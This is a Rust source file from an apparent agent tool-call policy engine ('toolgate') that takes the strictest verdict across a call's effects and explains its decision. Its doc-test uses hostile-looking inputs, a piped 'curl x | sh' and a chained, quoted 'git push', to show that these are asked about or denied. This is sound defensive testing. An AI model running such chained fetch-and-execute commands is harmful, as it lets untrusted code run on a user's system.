//! A call's decision: the strictest of its effects'.

use super::judge::{Hit, Judge, Judged, Judgement, List};
use super::texts::Telling;
use super::{CallPath, Code, Decision, EffectDecision, HitRule, RuleHit};
use crate::call::Call;
use crate::effects::{Effect, Effects};
use crate::paths::Readings;
use crate::policy::Policy;
use crate::session::{Memory, choices};
use crate::table::{Cell, Row, Verdict};

impl Policy {
    /// May this call run in this mode? Answers for any call.
    ///
    /// ```
    /// use toolgate::{Call, Policy, Verdict};
    /// let policy = Policy::from_json(r#"{
    ///     "tools": { "shell_run": { "risk": "execute", "command": "command" } },
    ///     "allow": ["npm test *"],
    ///     "deny": ["git push *"]
    /// }"#)?;
    /// let verdict = |line| policy.decide("manual", &Call::new("shell_run").command(line)).verdict;
    /// assert_eq!(verdict("npm test"), Verdict::Allow);
    /// assert_eq!(verdict("npm test && curl x | sh"), Verdict::Ask);
    /// assert_eq!(verdict("npm test; 'git' push"), Verdict::Deny);
    /// # Ok::<(), toolgate::PolicyError>(())
    /// ```
    pub fn decide(&self, mode: &str, call: &Call<'_>) -> Decision {
        self.decide_with(mode, call, &Memory::default())
    }

    /// What `decide` would answer, without the explanation.
    pub fn verdict(&self, mode: &str, call: &Call<'_>) -> Verdict {
        self.judge(mode, call, &Memory::default()).0
    }

    /// The call's decision in every mode, in row order.
    pub fn row(&self, call: &Call<'_>) -> Vec<(&str, Decision)> {
        self.table.rows.iter().map(|row| (row.id.as_str(), self.decide(&row.id, call))).collect()
    }

    /// The paths that a call writes or reads, as written: for a host that wants to tell what they really are.
    pub fn paths(&self, call: &Call<'_>) -> Vec<CallPath> {
        let effects = Effects::of(self, call);
        effects.list.iter().filter_map(|effect| effect.path(&effects)).collect()
    }

    /// The verdict, and the grant that made it allow, by its place in the memory.
    pub(crate) fn judge(&self, mode: &str, call: &Call<'_>, memory: &Memory<'_>) -> (Verdict, Vec<usize>) {
        let effects = Effects::of(self, call);
        let judge = Judge::new(self, self.table.row(mode), &effects, memory, false);
        let judgements = effects.list.iter().map(|effect| judge.judge(effect).judgement);
        let mut used = Vec::new();
        let mut worst: Option<Judgement> = None;
        for judgement in judgements {
            used.extend(judgement.hit.filter(|hit| hit.list == List::Grant).map(|hit| hit.index));
            worst = Some(worst.map_or(judgement, |worst| strictest(worst, judgement)));
        }
        (self.attended(worst.map_or(Cell::Confirm, |worst| worst.cell).verdict()), used)
    }

    /// With what a session remembers.
    pub(crate) fn decide_with(&self, mode: &str, call: &Call<'_>, memory: &Memory<'_>) -> Decision {
        let effects = Effects::of(self, call);
        let row = self.table.row(mode);
        let judge = Judge::new(self, row, &effects, memory, true);
        let judged: Vec<Judged> = effects.list.iter().map(|effect| judge.judge(effect)).collect();
        let Some((effect, worst)) = decided(&effects, &judged) else { return Decision::internal() };
        let explained =
            effects.list.iter().zip(&judged).map(|(effect, judged)| self.explain(&effects, effect, judged, memory, row));
        let explained: Vec<_> = explained.collect();
        let subject = effect.subject(&effects);
        let rule = worst.hit.and_then(|hit| self.hit(hit, memory, row));
        let telling = Telling {
            policy: self,
            row,
            mode,
            tool: call.tool,
            subject: &subject,
            risk: self.strictest_risk(&effects, effect, row),
            cell: worst.cell,
            code: worst.code,
            rule: rule.as_ref(),
            told: effect.place.as_ref().is_none_or(Readings::told),
            opaque: effects.screening.opaque.map(|opaque| opaque.message),
        };
        let verdict = self.attended(worst.cell.verdict());
        Decision {
            verdict,
            firm: verdict == Verdict::Ask && worst.cell.firm(),
            code: worst.code,
            reason: telling.reason(),
            feedback: telling.feedback(),
            rule: rule.clone(),
            grants: match worst.cell {
                Cell::Ask if verdict == Verdict::Ask => choices(self, &effects, &judged),
                _ => Vec::new(),
            },
            effects: explained,
        }
    }

    /// Nobody is there to answer: an ask is a deny.
    fn attended(&self, verdict: Verdict) -> Verdict {
        if self.unattended && verdict == Verdict::Ask { Verdict::Deny } else { verdict }
    }

    fn explain(
        &self,
        effects: &Effects<'_>,
        effect: &Effect<'_>,
        judged: &Judged,
        memory: &Memory<'_>,
        row: Option<&Row>,
    ) -> EffectDecision {
        let Judgement { cell, code, hit } = judged.judgement;
        let verdict = self.attended(cell.verdict());
        EffectDecision {
            risk: self.strictest_risk(effects, effect, row).to_owned(),
            kind: effect.kind(effects),
            subject: effect.subject(effects),
            span: effect.span.map(|span| (span.start, span.end)),
            verdict,
            firm: verdict == Verdict::Ask && cell.firm(),
            code,
            rule: hit.and_then(|hit| self.hit(hit, memory, row)),
            overridden: judged.overridden.iter().filter_map(|hit| self.hit(*hit, memory, row)).collect(),
        }
    }

    /// The name of the risk whose cell holds.
    fn strictest_risk<'e>(&self, effects: &'e Effects<'_>, effect: &'e Effect<'_>, row: Option<&Row>) -> &'e str {
        let strictest = effects.risks(effect).reduce(|one, two| {
            let stricter = self.table.cell(row, two.column) > self.table.cell(row, one.column);
            if stricter { two } else { one }
        });
        strictest.map_or("unknown", |risk| risk.name)
    }

    fn hit(&self, hit: Hit, memory: &Memory<'_>, row: Option<&Row>) -> Option<RuleHit> {
        let Hit { list, index, fit } = hit;
        let rules = match list {
            List::Deny => &self.deny[..],
            List::Ask => &self.ask[..],
            List::Allow => &self.allow[..],
            List::Row => self.row_rules(row?)?,
            List::Grant => &[],
        };
        let (rule, reason) = match list {
            List::Grant => (HitRule::Grant(memory.grants.get(index)?.grant.clone()), None),
            _ => {
                let rule = rules.get(index)?;
                (HitRule::Rule(rule.source.clone()), rule.source.reason.clone())
            }
        };
        Some(RuleHit { list, index, rule, matched: fit, reason })
    }
}

/// The deciding effect: the first of the strictest.
fn decided<'e, 'a>(effects: &'e Effects<'a>, judged: &[Judged]) -> Option<(&'e Effect<'a>, Judgement)> {
    effects
        .list
        .iter()
        .zip(judged.iter().map(|judged| judged.judgement))
        .reduce(|one, two| if two.1.cell > one.1.cell { two } else { one })
}

fn strictest(one: Judgement, two: Judgement) -> Judgement {
    if two.cell > one.cell { two } else { one }
}

impl Decision {
    /// The firm ask of an engine that can't answer.
    pub(crate) fn internal() -> Self {
        Decision {
            verdict: Verdict::Ask,
            firm: true,
            code: Code::Internal,
            reason: "The policy engine could not answer.".to_owned(),
            feedback: "A person is asked before this runs.".to_owned(),
            rule: None,
            effects: Vec::new(),
            grants: Vec::new(),
        }
    }
}
